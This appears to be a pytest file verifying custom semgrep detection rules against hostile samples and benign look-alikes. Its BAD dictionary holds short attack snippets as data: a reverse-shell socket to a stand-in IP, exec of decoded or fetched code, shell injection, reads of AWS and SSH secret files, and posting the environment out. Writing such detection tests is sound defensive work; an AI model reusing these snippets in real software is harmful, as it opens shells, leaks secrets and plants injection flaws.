"""Our own rules for semgrep: each finds what it is for, and stays silent on what looks like it. One run for all."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from msgspec.structs import replace
from real.scan.conftest import Open

from supervisor.scan.plugins.manifests import SEMGREP
from supervisor.scan.plugins.staging import RULES

pytestmark = pytest.mark.real

PYTHON = "import asyncio, base64, json, os, pickle, shlex, socket, subprocess\nimport urllib.request\nimport requests\n"
BAD = {
    "python-reverse-shell": (
        "py",
        "def f():\n    s = socket.socket()\n    s.connect(('192.0.2.1', 9))\n    os.dup2(s.fileno(), 0)\n",
    ),
    "python-decoded-code": ("py", "exec(base64.b64decode('eA=='))\nexec(bytes.fromhex('78'))\n"),
    "python-fetched-code": ("py", "exec(urllib.request.urlopen('http://192.0.2.1').read())\n"),
    "python-shell-from-argument": (
        "py",
        "def f(name):\n    command = f'ls {name}'\n    os.system(command)\n",
    ),
    "python-secret-file": ("py", "open(os.path.expanduser('~/.aws/credentials'))\n"),
    "python-whole-environment-sent": (
        "py",
        "def f():\n    found = dict(os.environ)\n    requests.post('https://192.0.2.1', json=found)\n",
    ),
    "python-unpickled-argument": ("py", "def f(blob):\n    return pickle.loads(base64.b64decode(blob))\n"),
    "javascript-decoded-code": ("js", "eval(Buffer.from('eA==', 'base64').toString());\n"),
    "javascript-shell-from-argument": (
        "ts",
        "import { execSync } from 'child_process';\nexport function f(name: string) { execSync(`ls ${name}`); }\n",
    ),
    "javascript-secret-file": ("mjs", "readFile(join(home, '.ssh/id_rsa'));\n"),
}
GOOD = {
    "honest.py": """
def numbers(name):
    with socket.socket() as s:
        s.connect((name, 80))
        os.dup2(1, 2)
    exec(open('setup.py').read())
    base64.b64decode(name)
    subprocess.run(['ls', name])
    subprocess.run('ls ' + shlex.quote(name), shell=True)
    subprocess.run('ls', shell=True)
    open(os.path.expanduser('~/.config/app.toml'))
    print('keys of ssh lie in ~/.ssh, as a rule')
    requests.get(name, headers={'key': os.environ['APP_KEY']})
    return json.loads(name)
""",
    "honest.js": """
import { execFileSync } from 'child_process';
export function numbers(name) {
  const found = /a+/.exec(`${name}`);
  execFileSync('ls', [name]);
  JSON.parse(Buffer.from(name, 'base64').toString());
  return readFile(join(home, '.ssh/known_hosts'));
}
""",
}


def test_there_is_a_case_for_each_rule() -> None:
    ids = re.findall(r"^  - id: (\S+)$", (RULES / "semgrep.yaml").read_text(), re.MULTILINE)
    assert sorted(BAD) == sorted(ids)


async def test_each_rule_finds_its_own_and_nothing_honest(bench: Open, path_of: Callable[..., str]) -> None:
    async with bench(PATH=path_of("semgrep")) as plugins:
        (plugins.source / "server.py").unlink()
        for rule, (suffix, text) in BAD.items():
            (plugins.source / f"{rule}.{suffix}").write_text((PYTHON if suffix == "py" else "") + text)
        for name, text in GOOD.items():
            (plugins.source / name).write_text((PYTHON if name.endswith("py") else "") + text)
        ran = await plugins.run(replace(SEMGREP, timeout_s=300.0))
    assert ran.report.state == "ok", ran.report.detail
    found = {(one.place.rpartition(":")[0].rpartition(".")[0], one.rule) for one in ran.findings}
    assert found >= {(rule, rule) for rule in BAD}
    assert not [one for one in ran.findings if one.place.startswith("honest")]
